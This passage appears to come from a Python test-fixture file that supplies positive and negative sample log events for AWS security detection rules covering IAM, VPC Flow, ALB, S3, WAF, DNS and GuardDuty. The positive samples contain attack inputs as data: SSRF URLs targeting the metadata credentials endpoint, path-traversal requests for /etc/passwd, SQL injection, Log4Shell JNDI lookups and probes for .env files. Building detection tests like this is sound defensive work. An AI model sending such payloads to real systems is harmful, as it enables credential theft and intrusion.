                             "passwordResetRequired": False}}),
        ct("UpdateLoginProfile", "iam", iam_user(), {"userName": "bob"}),
    ], "negative": [
        ct("ChangePassword", "iam", iam_user("bob"), None, ua=UA_BROWSER),
        ct("GetLoginProfile", "iam", iam_user(), {"userName": "bob"}),
        ct("CreateLoginProfile", "iam", role(), {"userName": "backup-svc"}, ip=ATTACKER,
           error=("AccessDenied", "not authorized: iam:CreateLoginProfile")),
    ]},
    # ================================================================ VPC Flow Logs
    "bt-aws-vpcflow-admin-port-from-internet": {"type": "vpcflow", "positive": [
        flow(ATTACKER, "10.0.0.137", 40112, 22, nbytes=4_210),
        flow("203.0.113.80", "10.0.2.25", 51000, 3389, nbytes=90_112),
    ], "negative": [
        flow(ATTACKER, "10.0.0.137", 40112, 22, "REJECT", 120, 2),
        flow("10.0.1.12", "10.0.2.25", 51000, 22),
        flow("203.0.113.80", "10.0.0.137", 51000, 443),
    ]},
    "bt-aws-vpcflow-egress-miner-irc-port": {"type": "vpcflow", "positive": [
        flow("10.0.2.25", "198.51.100.99", 49811, 3333, nbytes=51_220),
        flow("10.0.2.25", "203.0.113.66", 51002, 6667),
    ], "negative": [
        flow("10.0.2.25", "198.51.100.99", 49811, 443),
        flow("10.0.2.25", "198.51.100.99", 49811, 3333, "REJECT"),
        flow("10.0.0.137", "203.0.113.50", 443, 4444),        # a reply to a client's ephemeral port
        flow("10.0.2.25", "10.0.3.14", 49811, 6666),
    ]},
    "bt-aws-vpcflow-large-egress": {"type": "vpcflow", "positive": [
        flow("10.0.2.25", "198.51.100.77", 49811, 443, nbytes=812_000_000, packets=560_000),
    ], "negative": [
        flow("10.0.2.25", "198.51.100.77", 49811, 443, nbytes=42_000_000, packets=30_000),
        flow("10.0.2.25", "10.0.3.14", 49811, 5432, nbytes=812_000_000, packets=560_000),
        flow("198.51.100.77", "10.0.2.25", 443, 49811, nbytes=812_000_000, packets=560_000),
    ]},
    # ================================================================ ALB
    "bt-aws-alb-ssrf-metadata": {"type": "alb", "positive": [
        alb("/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web-app-role",
            "python-requests/2.31.0", client=ATTACKER),
        alb("/api/preview?url=http%3A%2F%2F2852039166%2Flatest%2Fapi%2Ftoken", "curl/8.4.0", client=ATTACKER),
    ], "negative": [
        alb("/api/preview?url=https://www.example.org/blog/post-1"),
        alb("/products/trail-runner-2"),
    ]},
    "bt-aws-alb-path-traversal": {"type": "alb", "positive": [
        alb("/static/../../../../etc/passwd", "curl/8.4.0", 400),
        alb("/download?file=..%2f..%2fetc%2fpasswd", "curl/8.4.0", 404),
        alb("/%2e%2e/%2e%2e/etc/passwd", "curl/8.4.0", 400),
    ], "negative": [
        alb("/static/app.3f9a1c.js"),
        alb("/products/trail-runner-2?page=2&ref=a.b.c"),
    ]},
    "bt-aws-alb-scanner-user-agent": {"type": "alb", "positive": [
        alb("/api/products?category=1%27%20OR%201=1--", "sqlmap/1.7.11#stable (https://sqlmap.org)", 500),
        alb("/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", 200),
        alb("/", "Mozilla/5.0 zgrab/0.x", 200),
    ], "negative": [
        alb("/.env", "Mozilla/5.0 zgrab/0.x", 404),
        alb("/", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 404),
        alb("/", CHROME, 200),
    ]},
    "bt-aws-alb-sensitive-path-200": {"type": "alb", "positive": [
        alb("/.env", "python-requests/2.31.0", 200, ATTACKER),
        alb("/.git/config", "curl/8.4.0", 200, ATTACKER),
        alb("/actuator/env", "curl/8.4.0", 200, ATTACKER),
    ], "negative": [
        alb("/.env", "python-requests/2.31.0", 404, ATTACKER),
        alb("/.git/HEAD", "Mozilla/5.0 zgrab/0.x", 404),
        alb("/environment-friendly-products", CHROME, 200),
    ]},
    "bt-aws-alb-log4shell-jndi": {"type": "alb", "positive": [
        alb("/?x=${jndi:ldap://198.51.100.77:1389/a}", "curl/8.4.0", 200, ATTACKER),
        alb("/", "${jndi:ldap://198.51.100.77:1389/a}", 200, ATTACKER),
        alb("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D", CHROME, 200, ATTACKER),
    ], "negative": [
        alb("/search?q=jndi+tutorial", CHROME),
        alb("/api/products?category=bags", CHROME),
    ]},
    # ================================================================ S3 server access logs
    "bt-aws-s3access-policy-acl-changed": {"type": "s3access", "positive": [
        s3log("REST.PUT.BUCKETPOLICY", "-", "PUT /acme-customer-exports?policy HTTP/1.1", 204,
              f"arn:aws:iam::{ACCT}:user/backup-svc", "203.0.113.9"),
        s3log("REST.PUT.ACL", "-", "PUT /acme-customer-exports?acl HTTP/1.1", 200),
    ], "negative": [
        s3log("REST.PUT.BUCKETPOLICY", "-", "PUT /acme-customer-exports?policy HTTP/1.1", 403),
        s3log("REST.GET.BUCKETPOLICY", "-", "GET /acme-customer-exports?policy HTTP/1.1", 200),
        s3log("REST.PUT.ACL", "exports/report.csv", "PUT /exports/report.csv?acl HTTP/1.1", 200),
    ]},
    "bt-aws-s3access-anonymous-get": {"type": "s3access", "positive": [
        s3log("REST.GET.OBJECT", "exports/2026-10/customers-0001.csv.gz",
              "GET /exports/2026-10/customers-0001.csv.gz HTTP/1.1", 200, "-", "203.0.113.201", "4800000", "4800000",
              "curl/8.4.0"),
    ], "negative": [
        s3log("REST.GET.OBJECT", "exports/2026-10/customers-0001.csv.gz",
              "GET /exports/2026-10/customers-0001.csv.gz HTTP/1.1", 403, "-", "203.0.113.201", "243", "-",
              "curl/8.4.0"),
        s3log("REST.GET.OBJECT", "exports/2026-10/customers-0001.csv.gz",
              "GET /exports/2026-10/customers-0001.csv.gz HTTP/1.1", 200,
              f"arn:aws:sts::{ACCT}:assumed-role/export-job-role/i-0de4c5b6a7980f1e2", "10.0.2.61", "4800000",
              "4800000"),
    ]},
    # ================================================================ WAF
    "bt-aws-waf-ssrf-allowed": {"type": "waf", "positive": [
        waf("/api/preview", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web-app-role",
            ssrf_rule=True),
        waf("/api/preview", "url=http%3A%2F%2F169.254.169.254%2Flatest%2F"),
    ], "negative": [
        waf("/api/preview", "url=http://169.254.169.254/latest/meta-data/", "BLOCK", ssrf_rule=True),
        waf("/api/preview", "url=https://www.example.org/blog/post-1"),
    ]},
    # ================================================================ Route 53 Resolver
    "bt-aws-route53resolver-oast-domain": {"type": "route53resolver", "positive": [
        dns("cb-7f3k2.oast.example.net.", ATTACKER),
        dns("c59h2sqm0sj1a2b3c4d5e6f7g8h9.oast.fun.", "198.51.100.99"),
        dns("x7k2q9.oastify.com.", "198.51.100.98"),
    ], "negative": [
        dns("shop-db.cluster-c9akciq32xyz.us-east-1.rds.amazonaws.com."),
        dns("toast.example.com.", "192.0.2.181"),
        dns("payments.example.org.", "192.0.2.181"),
    ]},
    # ================================================================ GuardDuty
    "bt-aws-guardduty-high-severity": {"type": "guardduty", "positive": [
        finding("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8),
        finding("CryptoCurrency:EC2/BitcoinTool.B!DNS", 7),
    ], "negative": [
        finding("Recon:EC2/PortProbeUnprotectedPort", 2),
        finding("Recon:IAMUser/MaliciousIPCaller", 5.0),
        finding("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8, archived=True),
    ]},
    "bt-aws-guardduty-instance-credential-exfiltration": {"type": "guardduty", "positive": [
        finding("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8),
        finding("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS", 8),
    ], "negative": [
        finding("UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom", 5),
        finding("InitialAccess:IAMUser/AnomalousBehavior", 5),
    ]},
}
